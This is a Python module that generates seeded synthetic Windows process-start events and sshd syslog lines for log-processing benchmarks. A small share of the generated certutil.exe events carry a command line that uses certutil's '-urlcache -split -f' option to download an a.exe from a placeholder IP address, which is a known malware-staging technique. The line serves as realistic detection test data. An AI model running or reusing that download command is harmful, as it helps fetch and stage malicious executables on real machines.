"""Synthetic log data for the benchmarks: NDJSON app/process events and syslog lines.

Deterministic for a seed; written by the project (no third-party data).
"""

from __future__ import annotations

import random
from datetime import UTC, datetime, timedelta
from pathlib import Path

import orjson

HOSTS = [f"WS-{i:03d}" for i in range(50)] + ["DC01", "web01", "bastion"]
USERS = ["j.doe", "a.smith", "svc_backup", "admin", "m.lee", "k.ng"]
IMAGES = [
    r"C:\Windows\System32\svchost.exe",
    r"C:\Program Files\Google\Chrome\Application\chrome.exe",
    r"C:\Windows\explorer.exe",
    r"C:\Windows\System32\cmd.exe",
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    r"C:\Windows\System32\certutil.exe",
]


def ndjson_lines(count: int, *, seed: int = 1, start: datetime | None = None):
    """Yield ``count`` NDJSON lines of nested process-start events (about 450 bytes each)."""
    rng = random.Random(seed)  # noqa: S311 - benchmark data, not crypto
    start = start or datetime(2026, 11, 1, tzinfo=UTC)
    for i in range(count):
        image = rng.choice(IMAGES)
        rare = image.endswith("certutil.exe") and rng.random() < 0.02
        command = (
            f'"{image}" -urlcache -split -f http://198.51.100.{rng.randint(1, 254)}/a.exe'
            if rare
            else f'"{image}" --type=renderer --id={rng.randint(1, 99999)}'
        )
        yield orjson.dumps(
            {
                "@timestamp": (start + timedelta(milliseconds=i * 7)).isoformat(),
                "host": {"name": rng.choice(HOSTS), "os": {"type": "windows"}},
                "user": {"name": rng.choice(USERS)},
                "process": {
                    "pid": rng.randint(100, 65000),
                    "executable": image,
                    "command_line": command,
                    "parent": {"pid": rng.randint(4, 9000)},
                },
                "event": {"action": "process_start", "code": "1"},
                "Image": image,
                "CommandLine": command,
                "message": f"Process {image} started by {rng.choice(USERS)}",
            }
        )


def write_ndjson(path: Path, count: int, *, seed: int = 1) -> Path:
    """Write ``count`` NDJSON events to ``path``."""
    with path.open("wb") as handle:
        batch: list[bytes] = []
        for line in ndjson_lines(count, seed=seed):
            batch.append(line)
            if len(batch) == 10000:
                handle.write(b"\n".join(batch) + b"\n")
                batch = []
        if batch:
            handle.write(b"\n".join(batch) + b"\n")
    return path


def syslog_line(i: int, rng: random.Random) -> bytes:
    """One RFC 5424 line with a unique sequence number."""
    host = rng.choice(HOSTS)
    return (
        f"<34>1 2026-11-28T10:00:{i % 60:02d}.000Z {host} sshd {1000 + i % 5000} - - "
        f"Failed password for {rng.choice(USERS)} from 203.0.113.{i % 250} port "
        f"{20000 + i % 40000} ssh2 seq={i}"
    ).encode()
